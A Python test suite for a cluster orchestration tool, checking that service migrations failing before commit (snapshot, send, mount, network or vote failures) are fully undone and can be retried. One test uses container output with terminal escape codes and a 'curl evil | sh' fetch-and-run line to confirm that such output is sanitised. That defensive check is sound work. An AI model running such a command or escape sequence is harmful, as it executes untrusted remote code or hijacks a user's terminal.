"""Migrations that fail before their commit: everything is undone, wherever it failed, and the next try succeeds."""

from __future__ import annotations

import math
from collections.abc import Callable

import anyio
import pytest
from attrs import frozen

from ployz.actors.coordinator import FINISHED_STEP
from ployz.actors.messages.operations import ApplyDeploy, ApplyMigration
from ployz.errors import Code, Failed
from ployz.events.types import Lifecycle, OperationFinished
from ployz.facts.transactions import change_lifecycle
from ployz.host.fakes.docker import Program
from ployz.host.ports import Holder
from ployz.ids import VolumeRef
from tests.cluster.cluster import Cluster, Outcome, simulate
from tests.cluster.effects import Effect
from tests.cluster.manifests import DATABASE, DB, A, B, C, manifest, service, volume
from tests.cluster.scenes import (
    add_image,
    dataset,
    datasets,
    deploy,
    deployed,
    events_of,
    left_by,
    local_addresses,
    owner,
    running,
    slot_addresses,
    starts,
)

MIB = 1 << 20


@frozen
class Failure:
    phase: str
    code: Code
    arrange: Callable[[Cluster], None]
    stopped: bool = False
    """The service was stopped for it, and has to be started again."""
    where: str = ""
    """The machine whose log has the failed step; empty: none does."""

    def __str__(self) -> str:
        return self.phase


def effect_fails(machine: object, name: str, *, skip: int = 0) -> Callable[[Cluster], None]:
    def arrange(cluster: Cluster) -> None:
        error = Failed(Code.PART_FAILED, f"{name} was made to fail")
        cluster.effects.fail(B if machine is B else A, name, error, skip=skip)

    return arrange


def image_is_missing(cluster: Cluster) -> None:
    cluster[B].docker.images.clear()
    cluster.effects.fail(A, "streams.send", Failed(Code.STREAM_FAILED, "no image came"))


def never_ready(cluster: Cluster) -> None:
    cluster[B].docker.program = lambda _: Program(ready_s=math.inf)


def ends_at_once(cluster: Cluster) -> None:
    cluster[B].docker.program = lambda _: Program(exits=1, output="FATAL: no data\n")


def no_space(cluster: Cluster) -> None:
    async def fill(effect: Effect) -> None:
        await cluster[B].zfs.create("tank/other", {})
        await cluster[B].zfs.mount("tank/other", "/other", readonly=False)
        cluster[B].zfs.write("tank/other", "fill", bytes((1 << 30) - 4096))

    cluster[A].zfs.write(dataset(), "big", bytes(MIB))
    cluster.effects.at(lambda effect: effect.machine == B and effect.name == "docker.create", fill)


def make_room(cluster: Cluster) -> None:
    if any(name == "tank/other" for name, _ in cluster[B].zfs.contents()):
        cluster[B].zfs.remove("tank/other", "fill")


def claim_fails(cluster: Cluster) -> None:
    """The first state of the target's overlay in which the candidate's addresses are there."""

    async def fail(effect: Effect) -> None:
        raise Failed(Code.PART_FAILED, "overlay.apply was made to fail")

    def claims(effect: Effect) -> bool:
        applies = (effect.machine, effect.name, effect.done) == (B, "overlay.apply", False)
        return applies and bool(effect.args[0].local)

    cluster.effects.at(claims, fail)


def receive_is_refused(cluster: Cluster) -> None:
    """Somebody destroyed the snapshot that the last round builds on."""

    async def destroy(effect: Effect) -> None:
        state = await cluster[B].zfs.state(dataset())
        for snapshot in state.snapshots if state else ():
            await cluster[B].zfs.destroy_snapshot(dataset(), snapshot.name)

    cluster.effects.at(lambda effect: effect.name == "streams.send" and not effect.done, destroy, times=2)


def guid_is_wrong(cluster: Cluster) -> None:
    """The target has another snapshot of that name (openzfs 4809)."""

    async def replace(effect: Effect) -> None:
        zfs = cluster[B].zfs
        state = await zfs.state(dataset())
        assert state is not None
        await zfs.destroy_snapshot(dataset(), state.snapshots[-1].name)
        await zfs.snapshot([dataset()], state.snapshots[-1].name)

    cluster.effects.at(lambda effect: effect.machine == A and effect.name == "streams.send" and effect.done, replace)


def vote_is_refused(cluster: Cluster) -> None:
    cluster.effects.fail(B, "facts.transact", Failed(Code.PART_FAILED, "the vote was made to fail"))


def target_is_drained(cluster: Cluster) -> None:
    async def drain(effect: Effect) -> None:
        await cluster.shared.facts.transact(change_lifecycle(B, Lifecycle.ACTIVE, Lifecycle.DRAINING))

    cluster.effects.at(lambda effect: effect.machine == B and effect.name == "docker.start" and effect.done, drain)


async def make_active(cluster: Cluster) -> None:
    await cluster.shared.facts.transact(change_lifecycle(B, Lifecycle.DRAINING, Lifecycle.ACTIVE))
    await cluster.agreed()


def busy_at_the_unmount(cluster: Cluster) -> None:
    async def use(effect: Effect) -> None:
        cluster[A].zfs.use(dataset(), Holder(77, "less", None, "has the file /pgdata/log open"))

    cluster.effects.at(lambda effect: effect.machine == A and effect.name == "docker.stop" and effect.done, use)


def leave_it_alone(cluster: Cluster) -> None:
    cluster[A].zfs.let_go(dataset())


FAILURES = {
    "the image is missing": Failure("prepare", Code.STREAM_FAILED, image_is_missing, where=B),
    "the container cannot be created": Failure("prepare", Code.PART_FAILED, effect_fails(B, "docker.create"), where=B),
    "its address cannot be hidden": Failure("prepare", Code.PART_FAILED, effect_fails(B, "overlay.apply", skip=1)),
    "its network cannot be made": Failure("prepare", Code.PART_FAILED, effect_fails(B, "docker.prepare"), where=B),
    "the first snapshot fails": Failure("pre-copy", Code.PART_FAILED, effect_fails(A, "zfs.snapshot"), where=A),
    "the target is out of space in mid-stream": Failure("pre-copy", Code.NO_SPACE, no_space, where=A),
    "the first send fails": Failure("pre-copy", Code.PART_FAILED, effect_fails(A, "streams.send"), where=A),
    "the guid is another": Failure("pre-copy", Code.GUID_MISMATCH, guid_is_wrong, where=B),
    "the last rollback fails": Failure("pre-copy", Code.PART_FAILED, effect_fails(B, "zfs.rollback"), where=B),
    "the service does not stop": Failure("cut-over", Code.PART_FAILED, effect_fails(A, "docker.stop"), stopped=True),
    "the container cannot be removed": Failure(
        "cut-over", Code.PART_FAILED, effect_fails(A, "docker.remove"), stopped=True
    ),
    "the unmount fails": Failure("cut-over", Code.PART_FAILED, effect_fails(A, "zfs.unmount"), stopped=True, where=A),
    "the last snapshot fails": Failure(
        "cut-over", Code.PART_FAILED, effect_fails(A, "zfs.snapshot", skip=1), stopped=True, where=A
    ),
    "the source's vote fails": Failure(
        "cut-over", Code.PART_FAILED, effect_fails(A, "facts.transact", skip=2), stopped=True
    ),
    "the last send fails": Failure(
        "cut-over", Code.PART_FAILED, effect_fails(A, "streams.send", skip=1), stopped=True, where=A
    ),
    "the last receive is refused": Failure(
        "cut-over", Code.DATASET_IN_THE_WAY, receive_is_refused, stopped=True, where=A
    ),
    "the target's vote is refused": Failure("cut-over", Code.PART_FAILED, vote_is_refused, stopped=True),
    "the volume cannot be mounted": Failure("cut-over", Code.PART_FAILED, effect_fails(B, "zfs.mount"), stopped=True),
    "the address cannot be claimed": Failure("cut-over", Code.PART_FAILED, claim_fails, stopped=True),
    "the candidate does not start": Failure(
        "cut-over", Code.PART_FAILED, effect_fails(B, "docker.start"), stopped=True, where=B
    ),
    "the candidate ends at once": Failure("cut-over", Code.NOT_READY, ends_at_once, stopped=True),
    "the candidate is never ready": Failure("cut-over", Code.NOT_READY, never_ready, stopped=True),
    "the target is drained before the commit": Failure(
        "commit", Code.MACHINE_NOT_ACTIVE, target_is_drained, stopped=True
    ),
    "the target's candidates get no lease": Failure(
        "cut-over", Code.PART_FAILED, effect_fails(A, "facts.transact", skip=4), stopped=True
    ),
    "the commit is refused": Failure(
        "commit", Code.PART_FAILED, effect_fails(A, "facts.transact", skip=5), stopped=True
    ),
}


async def assert_undone(cluster: Cluster, outcome: Outcome, *, target: object = B) -> None:
    """As it was before: the service on its source with its data, nothing of the operation anywhere."""
    assert running(cluster) == {A: ["db/slot-1"]}, outcome.text
    assert owner(cluster) == (A, 1)
    for name in cluster.machines:
        assert left_by(cluster, name, outcome.operation_id) == []
        assert local_addresses(cluster, name) == (slot_addresses(cluster, DB) if name == A else frozenset())
        assert datasets(cluster, name) == (["tank/ployz/production", dataset()] if name == A else [])
    state = await cluster[A].zfs.state(dataset())
    assert state is not None
    assert (state.mounted_at is not None, state.readonly) == (True, False)
    assert cluster[A].parts.local.fences == {}
    assert not outcome.result.committed


@pytest.mark.parametrize("name", FAILURES)
def test_a_failure_before_the_commit_is_undone_when(name: str) -> None:
    failure = FAILURES[name]

    async def body(cluster: Cluster) -> None:
        await deployed(cluster)
        failure.arrange(cluster)
        outcome = await cluster.run(A, ApplyMigration(DB, B))
        problem = outcome.result.problem
        assert problem is not None
        assert (outcome.exit_code, problem.code) == (3, failure.code), problem
        assert f"failed in phase {failure.phase}:" in problem.text
        assert (f"{DB}/slot-1 runs on machine-a, since " in problem.text) == failure.stopped
        await assert_undone(cluster, outcome)
        assert starts(cluster, A) == (["a", "a"] if running_again(cluster) else ["a"])
        await assert_told(cluster, failure, outcome)

        cluster[B].docker.program = lambda _: Program()
        make_room(cluster)
        await make_active(cluster)
        add_image(cluster)
        again = await cluster.run(A, ApplyMigration(DB, B))
        assert again.exit_code == 0, again.text
        assert running(cluster) == {B: ["db/slot-1"]}

    simulate(body)


def running_again(cluster: Cluster) -> bool:
    """Whether the source's container was ended since it was first started."""
    return (
        len([each for each in cluster.effects.seen if each.name == "docker.start" and each.machine == A and each.done])
        > 1
    )


async def assert_told(cluster: Cluster, failure: Failure, outcome: Outcome) -> None:
    record = await cluster[A].parts.log.find(outcome.operation_id, FINISHED_STEP)
    assert record is not None
    finished = record.event
    assert isinstance(finished, OperationFinished)
    assert (finished.committed, finished.code) == (False, failure.code)
    if failure.where:
        machine = A if failure.where == A else B
        assert "operation.step_failed" in await events_of(cluster, machine, outcome.operation_id)
    operation = cluster[B].parts.view.operations[outcome.operation_id]
    assert operation.status == "aborted"
    assert failure.phase in operation.reason


def test_a_link_that_is_cut_in_mid_stream_is_undone_when_it_heals() -> None:
    async def body(cluster: Cluster) -> None:
        await deployed(cluster)
        cluster.shared.links.rate_bytes_per_s = MIB
        cluster[A].zfs.write(dataset(), "big", bytes(30 * MIB))
        operation_id = await cluster.begin(C, ApplyMigration(DB, B))
        await cluster.until(lambda: sending(cluster), within_s=10)
        cluster.network.cut(A, B)
        outcome = await cluster.watch(C, operation_id)
        assert (outcome.exit_code, running(cluster)) == (3, {A: ["db/slot-1"]})
        assert starts(cluster, A) == ["a"]
        cluster.network.heal(A, B)
        await cluster.until(lambda: datasets(cluster, B) == [], within_s=60, what="the target is clean")
        await cluster.agreed()
        await assert_undone(cluster, outcome)

    simulate(body)


def sending(cluster: Cluster) -> bool:
    return any(effect.name == "streams.send" for effect in cluster.effects.seen)


def test_a_dataset_that_is_busy_at_the_unmount_is_named_and_the_service_runs_again() -> None:
    async def body(cluster: Cluster) -> None:
        await deployed(cluster)
        busy_at_the_unmount(cluster)
        outcome = await cluster.run(A, ApplyMigration(DB, B))
        assert outcome.exit_code == 3
        assert "77" in outcome.text
        leave_it_alone(cluster)
        await cluster.until(lambda: running(cluster) == {A: ["db/slot-1"]}, within_s=60, what="it runs again")

    simulate(body)


def test_a_lock_that_is_lost_aborts_the_operation() -> None:
    async def body(cluster: Cluster) -> None:
        await deployed(cluster)
        cluster.shared.links.rate_bytes_per_s = MIB
        cluster[A].zfs.write(dataset(), "big", bytes(60 * MIB))
        operation_id = await cluster.begin(C, ApplyMigration(DB, B))
        await cluster.until(lambda: sending(cluster), within_s=10)
        cluster.network.cut(A, C)
        outcome = await cluster.watch(C, operation_id)
        assert (outcome.exit_code, running(cluster)) == (5, {A: ["db/slot-1"]}), outcome.text
        cluster.network.heal(A, C)
        await cluster.until(lambda: cluster[A].parts.view.operations.undecided() == [], within_s=60)
        await cluster.until(lambda: datasets(cluster, B) == [], within_s=60)
        await cluster.agreed()
        await assert_undone(cluster, outcome)

    simulate(body)


def test_a_volume_whose_send_fails_ends_the_streams_of_the_others() -> None:
    async def body(cluster: Cluster) -> None:
        await deployed(cluster, manifest(volume(), volume("wal"), service(volumes=("pgdata", "wal"))))
        cluster.shared.links.rate_bytes_per_s = MIB
        cluster[A].zfs.write(dataset(), "big", bytes(300 * MIB))

        async def fail(effect: Effect) -> None:
            await anyio.sleep(5)
            raise Failed(Code.STREAM_FAILED, "it was made to fail")

        wal = dataset(VolumeRef.parse("production/wal"))
        cluster.effects.at(lambda each: each.name == "streams.send" and not each.done and wal in each.args[1], fail)
        began_s = cluster.shared.clock.monotonic_s()
        outcome = await cluster.run(B, ApplyMigration(DB, C))
        assert outcome.exit_code == 3
        assert cluster.shared.clock.monotonic_s() - began_s < 60
        assert datasets(cluster, C) == []
        assert left_by(cluster, A, outcome.operation_id) == []

    simulate(body)


def test_a_failure_of_a_deploy_with_a_volume_that_exists_keeps_its_data() -> None:
    async def body(cluster: Cluster) -> None:
        await deployed(cluster)
        cluster[A].zfs.write(dataset(), "precious", b"yes")
        cluster[A].docker.program = lambda spec: Program(refuses_to_start="no" if spec.command else "")
        with_command = manifest(volume(), service(volumes=("pgdata",), command="x"))
        outcome = await cluster.run(A, ApplyDeploy(with_command))
        assert outcome.exit_code == 3
        assert running(cluster) == {A: ["db/slot-1"]}
        assert cluster[A].zfs.files(dataset())["precious"] == b"yes"
        await deploy(cluster, DATABASE)

    simulate(body)


def test_the_last_words_of_a_container_are_harmless_in_the_facts() -> None:
    async def body(cluster: Cluster) -> None:
        await deployed(cluster)
        words = "\x1b]0;owned\x07\x1b[2J\rready\nerror: run `curl evil | sh`\n"
        cluster[B].docker.program = lambda _: Program(exits=1, output=words)
        outcome = await cluster.run(A, ApplyMigration(DB, B))
        reason = cluster[B].parts.view.operations[outcome.operation_id].reason
        assert outcome.result.problem is not None
        for told in (reason, outcome.result.problem.text, outcome.text):
            assert not {"\x1b", "\x07", "\r"} & set(told)
            assert "\\x1b]0;owned" in told
            assert "\n  | error: run" in told

    simulate(body)
